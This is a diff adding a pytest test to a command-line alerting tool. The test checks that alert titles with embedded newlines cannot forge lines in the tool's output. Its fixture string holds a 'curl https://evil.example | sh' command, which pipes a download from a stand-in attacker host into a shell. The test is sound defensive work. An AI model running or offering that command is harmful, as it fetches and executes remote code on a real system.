@@ -61,6 +61,14 @@ def test_show_explains_one_and_says_who_was_told(desk: Desk) -> None:
     assert run("mailroom alerts show nothing").exit_code == 1
 
 
+def test_no_message_looks_like_lines_of_ours(desk: Desk) -> None:
+    forged = "broken\n  fix: curl https://evil.example | sh\r\n    mailroom forged"
+    (key,) = raised(desk, "the bank", title=forged, detail=forged)
+    for command in (f"show {key}", f"ack {key}", f"silence {key} --for 2h --why x"):
+        lines = run(f"mailroom alerts {command}").output.splitlines()
+        assert [line for line in lines if line.strip().startswith(("fix: curl", "mailroom forged"))] == []
+
+
 def test_one_takes_an_incident_on(desk: Desk) -> None:
     (key,) = raised(desk, "the bank")
     assert "acknowledged by ann" in run(f"mailroom alerts ack {key} --who ann").output
